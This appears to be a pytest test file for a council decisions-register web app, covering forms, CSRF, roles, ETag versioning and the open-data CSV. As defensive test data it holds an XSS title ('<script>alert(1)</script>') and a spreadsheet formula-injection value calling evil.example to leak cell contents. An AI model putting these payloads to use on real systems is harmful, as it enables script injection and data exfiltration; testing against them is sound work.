"""The decisions register on the web: the forms (GOV.UK error summary, CSRF token, hidden
version), a page per decision, the coverage view, the API (ETag/If-Match: 428 without it,
409 when stale), the open-data CSV, and who may write."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from typing import Any

from healthgap.decisions.models import Decision
from tests.decisions.conftest import make_screening
from tests.web.conftest import check_page, csrf_headers

BHAM = "E08000025"  # the editor's authority in tests/web/conftest.py
PAGES = ["/decisions", "/decisions/coverage", "/decisions?authority=E08000025"]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _hidden(c: Any, url: str) -> dict[str, str]:
    html = c.get(url).text
    return dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)"', html))


def _fields(**over: str) -> dict[str, str]:
    return {
        "title": "Fares cap <script>alert(1)</script>",
        "decision_maker": "The Cabinet",
        "directorate": "Transport",
        "decided_on": "2026-05-01",
        "key_decision": "yes",
        "budget": "2500000",
        "documents": "Cabinet report | https://example.org/report.pdf",
        **over,
    }


def _record(c: Any, **over: str) -> Any:
    data = {**_hidden(c, "/decisions/new"), **_fields(**over)}
    return c.post("/decisions/new", data=data, follow_redirects=False)


def _count(app: Any) -> int:
    with app.state.sessions() as s:
        return s.query(Decision).count()


def test_pages_render_for_everyone(clients: Any) -> None:
    anon = clients("anonymous")
    for url in PAGES:
        r = anon.get(url)
        assert r.status_code == 200, url
        check_page(r.text)
    assert "Record a decision" not in anon.get("/decisions").text
    assert anon.get("/decisions?authority=bad%20code").status_code == 400


def test_record_link_screening_and_coverage_updates(clients: Any, app: Any) -> None:
    """The walk of the issue: record a decision -> link its screening -> coverage updates."""
    editor, anon = clients("editor"), clients("anonymous")
    r = _record(editor)
    assert r.status_code == 303, r.text
    url = r.headers["location"]
    page = anon.get(url)
    check_page(page.text)
    assert "Fares cap &lt;script&gt;" in page.text and "<script>alert" not in page.text
    assert "not screened" in page.text and "£2,500,000" in page.text
    cov = anon.get("/decisions/coverage?authority=E08000025").text
    assert re.search(r"numeric\">1</td>\s*<td[^>]*numeric\">0</td>", cov)  # 1 key, 0 before
    sid = make_screening(app.state.engine)(BHAM, dt.date(2026, 4, 20))
    form = _hidden(editor, url)
    assert form["version"] == "1"
    r = editor.post(
        url + "/screenings", data={**form, "screening_id": str(sid)}, follow_redirects=False
    )
    assert r.status_code == 303, r.text
    page = anon.get(url).text
    assert "screened before" in page
    cov = anon.get("/decisions/coverage?authority=E08000025")
    check_page(cov.text)
    assert "100.0%" in cov.text


def test_bad_input_names_the_field_and_stores_nothing(clients: Any, app: Any) -> None:
    editor = clients("editor")
    r = _record(editor, decided_on="1 May 2026")
    assert r.status_code == 400
    check_page(r.text)
    assert "govuk-error-summary" in r.text and '<a href="#decided_on">' in r.text
    assert "1 May 2026" in r.text  # what was typed is kept
    r = _record(editor, title="")
    assert r.status_code == 400 and '<a href="#title">' in r.text
    r = _record(editor, budget="lots")
    assert '<a href="#budget">' in r.text
    assert _count(app) == 0


def test_another_authoritys_screening_is_refused(clients: Any, app: Any) -> None:
    editor = clients("editor")
    url = _record(editor).headers["location"]
    make_screening(app.state.engine)(BHAM)  # one of ours, so the page offers the form
    theirs = make_screening(app.state.engine)("E06000001")
    r = editor.post(
        url + "/screenings",
        data={**_hidden(editor, url), "screening_id": str(theirs)},
        follow_redirects=False,
    )
    assert r.status_code == 400
    assert f"got screening {theirs} of E06000001" in r.text
    with app.state.sessions() as s:
        assert s.query(Decision).one().screenings == []


def test_stale_form_version_is_refused(clients: Any, app: Any) -> None:
    editor, admin = clients("editor"), clients("admin")
    url = _record(editor).headers["location"]
    form = _hidden(editor, url + "/edit")
    r = admin.post(
        url + "/edit",
        data={**_hidden(admin, url + "/edit"), **_fields(title="A")},
        follow_redirects=False,
    )
    assert r.status_code == 303
    r = editor.post(url + "/edit", data={**form, **_fields(title="B")}, follow_redirects=False)
    assert r.status_code == 409 and "changed by someone else" in r.text
    check_page(r.text)
    assert 'name="version" value="2"' in r.text
    r = editor.post(
        url + "/edit", data={"csrf_token": form["csrf_token"], **_fields()}, follow_redirects=False
    )
    assert r.status_code == 428
    with app.state.sessions() as s:
        assert s.query(Decision).one().title == "A"


def test_regard_form_needs_a_reason_for_a_rejection(clients: Any, app: Any) -> None:
    editor, anon = clients("editor"), clients("anonymous")
    url = _record(editor).headers["location"]
    sid = make_screening(app.state.engine)(BHAM)
    editor.post(url + "/screenings", data={**_hidden(editor, url), "screening_id": str(sid)})
    regard = f"{url}/screenings/{sid}"
    form = editor.get(regard)
    check_page(form.text)
    data = {
        **_hidden(editor, regard),
        "recommendation-1": "Free fares for carers",
        "response-1": "accepted",
        "reason-1": "",
        "recommendation-2": "Night buses",
        "response-2": "rejected",
        "reason-2": "",
        "recommendation-3": "",
        "response-3": "pending",
        "reason-3": "",
    }
    r = editor.post(regard, data=data, follow_redirects=False)
    assert r.status_code == 400 and '<a href="#reason-2">' in r.text
    check_page(r.text)
    data["reason-2"] = "No operator runs them."
    assert editor.post(regard, data=data, follow_redirects=False).status_code == 303
    page = anon.get(url).text
    assert "Night buses" in page and "No operator runs them." in page and "rejected" in page
    assert anon.get(regard).status_code == 403 or anon.get(regard).status_code == 401


def test_writes_need_a_role_and_the_csrf_token(clients: Any, app: Any) -> None:
    anon, viewer, other = clients("anonymous"), clients("viewer"), clients("other_editor")
    assert anon.post("/decisions/new", data=_fields()).status_code == 401
    assert viewer.get("/decisions/new").status_code == 403
    r = clients("editor").post("/decisions/new", data=_fields(), follow_redirects=False)
    assert r.status_code == 403 and "CSRF" in r.text
    body = {
        **_fields(),
        "authority_code": BHAM,
        "key_decision": True,
        "budget": 1.0,
        "documents": [],
    }
    r = other.post("/api/v1/decisions", json=body, headers=csrf_headers(other))
    assert r.status_code == 403 and "decisions of authority E08000025 must be" in r.text
    assert _count(app) == 0


def test_api_versions_and_open_data(clients: Any, app: Any) -> None:
    editor, anon = clients("editor"), clients("anonymous")
    h = csrf_headers(editor)
    body = {
        "authority_code": BHAM,
        "title": FORMULA,
        "decision_maker": "Cabinet",
        "directorate": "Public health",
        "decided_on": "2026-03-01",
        "key_decision": True,
        "documents": [{"title": "Report", "url": "https://example.org/r"}],
    }
    r = editor.post("/api/v1/decisions", json=body, headers=h)
    assert r.status_code == 201, r.text
    did, tag = r.json()["id"], r.headers["ETag"]
    assert tag == '"1"' and r.json()["screening_status"] == "not screened"
    assert anon.get(f"/api/v1/decisions/{did}").headers["ETag"] == '"1"'
    r = editor.put(f"/api/v1/decisions/{did}", json={**body, "title": "T2"}, headers=h)
    assert r.status_code == 428
    r = editor.put(
        f"/api/v1/decisions/{did}", json={**body, "title": "T2"}, headers={**h, "If-Match": tag}
    )
    assert r.status_code == 200 and r.headers["ETag"] == '"2"'
    r = editor.put(
        f"/api/v1/decisions/{did}", json={**body, "title": "T3"}, headers={**h, "If-Match": tag}
    )
    assert r.status_code == 409 and r.json()["error"]["code"] == "conflict"
    sid = make_screening(app.state.engine)(
        BHAM, dt.date(2026, 2, 1), "less deprived areas gain more"
    )
    r = editor.put(f"/api/v1/decisions/{did}/screenings/{sid}", headers={**h, "If-Match": '"2"'})
    assert r.status_code == 200 and r.json()["predicted_effect"] == "widening"
    recs = {
        "recommendations": [
            {
                "recommendation": "Target the bottom decile",
                "response": "modified",
                "reason": "Phased",
            }
        ]
    }
    r = editor.put(
        f"/api/v1/decisions/{did}/screenings/{sid}/recommendations",
        json=recs,
        headers={**h, "If-Match": '"3"'},
    )
    assert r.status_code == 200 and r.json()["responses"]["modified"] == 1
    cov = anon.get("/api/v1/decisions/coverage?authority=E08000025").json()
    assert [w["id"] for w in cov["widening"]] == [did]
    assert cov["data"][0]["share_screened_before"] == 100.0
    text = anon.get("/api/v1/decisions?format=csv").text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["title"] == "T2" and rows[0]["predicted_effect"] == "widening"
    editor.put(f"/api/v1/decisions/{did}", json=body, headers={**h, "If-Match": '"4"'})
    text = anon.get("/api/v1/decisions?format=csv").text
    assert "'=HYPERLINK" in text  # neutralised by safe_csv
    assert anon.get("/api/v1/decisions/99999").status_code == 404
